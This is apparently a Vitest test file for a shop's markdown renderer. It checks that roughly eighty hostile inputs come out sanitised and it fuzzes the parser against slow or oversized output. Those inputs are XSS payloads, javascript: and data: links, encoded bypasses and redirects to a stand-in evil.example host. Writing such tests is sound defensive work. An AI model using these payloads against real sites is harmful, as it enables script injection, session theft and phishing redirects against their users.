import fc from "fast-check";
import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, it } from "vitest";
import { readLanguageFrom } from "#domain/language";
import { PLAIN_PAGE_CHARACTERS } from "#domain/settings/limits";
import { descriptionOf, markupOf } from "#request/markdown.server";
import { MarkupView } from "./markup.tsx";

const html = (markdown: string) => renderToStaticMarkup(<MarkupView markup={markupOf(markdown)} />);

const PLAIN =
  "p|h[2-6]|ul|ol|li|blockquote|strong|em|s|code|pre|table|thead|tbody|tr|th|td|section|a";
const TAG = new RegExp(
  [
    `</(?:${PLAIN})>`,
    `<(?:${PLAIN}|hr/|br/)>`,
    '<ol start="\\d+">',
    '<section tabindex="0" aria-label="Table" class="overflow-x-auto">',
    '<a href="(?<href>[^"<>]+)"(?: rel="noopener noreferrer")?>',
  ].join("|"),
  "g",
);

/** Finds HTML that isn't an allowed tag (`rest`), and the addresses of all links. */
function foreignIn(markdown: string): { rest: string[]; hrefs: string[] } {
  const drawn = html(markdown);
  const hrefs = [...drawn.matchAll(TAG)].flatMap(({ groups }) => groups?.href ?? []);
  return { rest: drawn.replaceAll(TAG, "").match(/[<>"][^<>"]{0,40}/g) ?? [], hrefs };
}

/** Parses an address as browsers do: `/\evil.example` and `/<tab>/evil.example` lead to other sites. */
function isAllowed(href: string): boolean {
  const { protocol, host, username } = new URL(
    href.replaceAll("&amp;", "&").replaceAll("&#x27;", "'"),
    "https://store.example",
  );
  if (href.startsWith("/")) return host === "store.example";
  return ["https:", "http:", "mailto:", "tel:"].includes(protocol) && username === "";
}

const ATTACKS = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example></SCRIPT>",
  "a <img src=x onerror=alert(1)> b",
  "<svg/onload=alert(1)>",
  "<iframe src=javascript:alert(1)></iframe>",
  "<a href=javascript:alert(1)>x</a>",
  "<!-- --!><script>alert(1)</script> -->",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<?php alert(1) ?>",
  "<style>*{display:none}</style>",
  "<base href=//evil.example>",
  "<meta http-equiv=refresh content=0;url=//evil.example>",
  "<form action=//evil.example><input name=p></form>",
  "</article></main><script>alert(1)</script>",
  "<div\nstyle='x'\nonclick='alert(1)'>x</div>",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](java\tscript:alert(1))",
  "[x](<java\nscript:alert(1)>)",
  "[x](&#106;avascript:alert(1))",
  "[x](&#x6A;&#x61;vascript&colon;alert(1))",
  "[x](javascript&#58;alert(1))",
  "[x](\\javascript:alert(1))",
  "[x](%6Aavascript:alert(1))",
  "[x]( javascript:alert(1) )",
  "[x](<\u0001javascript:alert(1)>)",
  "[x](\u00a0javascript:alert(1))",
  "[x](\u200bjavascript:alert(1))",
  "[x](vbscript:msgbox(1))",
  "[x](data:text/html;base64,PHNjcmlwdD4=)",
  "[x](DATA:text/html,<script>alert(1)</script>)",
  "[x](data:image/png;base64,iVBORw0KGgo=)",
  "[x](blob:https://store.example/1)",
  "[x](file:///etc/passwd)",
  "[x](view-source:https://a.example)",
  "[x](feed:javascript:alert(1))",
  "[x](intent://evil.example#Intent;scheme=http;end)",
  "[x](//evil.example)",
  "[x](///evil.example)",
  "[x](/\\evil.example)",
  "[x](\\\\evil.example)",
  "[x](/%09/evil.example)",
  "[x](</\t/evil.example>)",
  "[x](/%2F/evil.example)",
  "[x](/%5Cevil.example)",
  "[x](/..//evil.example)",
  "[x](/./%2fevil.example)",
  "[x](https:evil.example)",
  "[x](https:/evil.example)",
  "[x](https://store.example@evil.example)",
  "[x](https://user:password@evil.example/)",
  "[x](https:\\\\evil.example)",
  '[x](https://a.example "onmouseover=alert(1)")',
  '[x](https://a.example" onmouseover="alert(1))',
  "[x](https://a.example'onmouseover='alert(1))",
  "[x](https://a.example/<script>)",
  "[x]\n\n[x]: javascript:alert(1)",
  "[x]: <data:text/html,1>\n[x]",
  "<javascript:alert(1)>",
  "<data:text/html,1>",
  "![x](javascript:alert(1))",
  '![x" onerror="alert(1)](https://a.example/x.png)',
  "![<script>alert(1)</script>](x)",
  "[![x](data:image/svg+xml,1)](javascript:alert(1))",
  "[x](mailto:a@b.example?body=<script>)",
  "[x](tel:1;javascript:alert(1))",
  "```\n</pre><script>alert(1)</script>\n```",
  '``` " onclick="alert(1)\nx\n```',
  "`</code><script>alert(1)</script>`",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&#60;script&#62;alert(1)&#60;/script&#62;",
  "| <script> | b |\n| --- | :-: |\n| <img src=x onerror=alert(1)> | [x](javascript:1) |",
  '9" onclick="alert(1). x',
  "//evil.example ftp://evil.example javascript:alert(1)//https://a.example",
  "# <script>alert(1)</script>\n\n# [x](javascript:1) {#id onclick=alert(1)}",
  "\u0000<script>alert(1)</script>",
  "<a name=x>[y](https://a.example)</a>",
  "<https://a.example/%22onclick=%22alert(1)>",
  '<https://a.example/"onclick="alert(1)>',
];

describe("a hostile text", () => {
  it.each(ATTACKS)("has no element, attribute or address but the listed ones: %j", (attack) => {
    const { rest, hrefs } = foreignIn(attack);
    expect(rest).toEqual([]);
    expect(hrefs.filter((href) => !isAllowed(href))).toEqual([]);
  });

  it("is made of random pieces, and has none either", () => {
    const piece = fc.oneof(
      fc.constantFrom(..."*_`~[]()<>!#|\\&:;/\"'-+=.\n\t 1ax".split("")),
      fc.constantFrom(
        "\n\n",
        "](",
        "javascript:",
        "//",
        "https://",
        "<script",
        " onx=",
        "&#x",
        "| - |",
      ),
      fc.constantFrom(...ATTACKS),
      fc.string({ unit: "binary", maxLength: 4 }),
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 30 }), (pieces) => {
        const { rest, hrefs } = foreignIn(pieces.join(""));
        return rest.length === 0 && hrefs.every(isAllowed);
      }),
      { numRuns: 500 },
    );
  });

  const full = (piece: string) =>
    piece.repeat(PLAIN_PAGE_CHARACTERS).slice(0, PLAIN_PAGE_CHARACTERS);
  const half = (piece: string) => full(piece).slice(0, PLAIN_PAGE_CHARACTERS / 2);
  it.each([
    ["quotes in quotes", full(">")],
    ["quotes and lists in each other", full("> - ")],
    ["numbered lists in each other", full("1. ")],
    [
      "lists, each further in",
      Array.from({ length: 190 }, (_, index) => `${" ".repeat(index)}* a`).join("\n"),
    ],
    ["brackets", full("[")],
    ["links in links", full("[a](")],
    ["pictures in pictures", full("![")],
    ["emphasis that never ends", full("*a")],
    ["emphasis of both kinds", full("*a_b")],
    ["emphasis in emphasis", half("**a ") + half(" a**")],
    ["underscores", full("_a__")],
    ["code of all lengths", Array.from({ length: 190 }, (_, index) => "`".repeat(index)).join("e")],
    ["links by themselves", full("//a.b/ ")],
    ["titles that never end", full('[a](b "')],
    [
      "a table of many columns and short rows",
      `|${"a|".repeat(2_000)}\n|${"-|".repeat(2_000)}\n${"|\n".repeat(5_000)}`,
    ],
    ["headings", full("a\n=\n")],
  ])(
    "of full length takes a bounded time and a bounded size: %s",
    (_, text) => {
      const { rest } = foreignIn(text);
      expect(rest).toEqual([]);
      expect(html(text).length).toBeLessThan(400_000);
    },
    10_000,
  );
});

describe("an owner's text", () => {
  it.each([
    [
      "## Hours\n\nWe are **closed**.\n*Always.*",
      "<h2>Hours</h2><p>We are <strong>closed</strong>.<br/><em>Always.</em></p>",
    ],
    ["# A\n### B\n# C", "<h2>A</h2><h3>B</h3><h2>C</h2>"],
    ["- tea\n- coffee", "<ul><li>tea</li><li>coffee</li></ul>"],
    ["3. three\n4. four", '<ol start="3"><li>three</li><li>four</li></ol>'],
    ["> said", "<blockquote><p>said</p></blockquote>"],
    ["a  \nb\n\n---", "<p>a<br/>b</p><hr/>"],
    ["    four spaces", "<p>four spaces</p>"],
    ["`x` ~~y~~", "<p><code>x</code> <s>y</s></p>"],
    ["[shop](/shop?a=1#b)", '<p><a href="/shop?a=1#b">shop</a></p>'],
    [
      "[us](https://maps.example/a?b=c)",
      '<p><a href="https://maps.example/a?b=c" rel="noopener noreferrer">us</a></p>',
    ],
    ["[call](tel:+91-98480 12345)", "<p>[call](tel:+91-98480 12345)</p>"],
    ["[call](<tel:+91 98480>)", '<p><a href="tel:+91%2098480">call</a></p>'],
    ["hello@a.example", '<p><a href="mailto:hello@a.example">hello@a.example</a></p>'],
    [
      "https://a.example/x.",
      '<p><a href="https://a.example/x" rel="noopener noreferrer">https://a.example/x</a>.</p>',
    ],
    ["![our stall](/pictures/x)", "<p>our stall</p>"],
    [
      "|S|\n|-|\n|36|",
      '<section tabindex="0" aria-label="Table" class="overflow-x-auto"><table><thead><tr><th>S</th></tr></thead><tbody><tr><td>36</td></tr></tbody></table></section>',
    ],
    ["కార్డులు **పోస్టులో**", "<p>కార్డులు <strong>పోస్టులో</strong></p>"],
  ])("%j is drawn as what it means", (text, drawn) => {
    expect(html(text)).toBe(drawn);
  });

  it("leads within the store to the language of its page, and where it names a language to that", () => {
    const before = readLanguageFrom(() => "te");
    expect(html("[a](/shop) [b](/te/shop) [c](/)")).toBe(
      '<p><a href="/te/shop">a</a> <a href="/te/shop">b</a> <a href="/te">c</a></p>',
    );
    readLanguageFrom(before);
  });

  it("is described by its first paragraph, cut between words", () => {
    expect(descriptionOf(markupOf("# Title\n\nFirst **of\nall**.\n\nSecond."))).toBe(
      "First of all.",
    );
    expect(descriptionOf(markupOf("- one\n- two"))).toBe("");
    const long = descriptionOf(markupOf("words ".repeat(100)));
    expect(long).toMatch(/words…$/);
    expect(long.length).toBeLessThanOrEqual(161);
  });
});
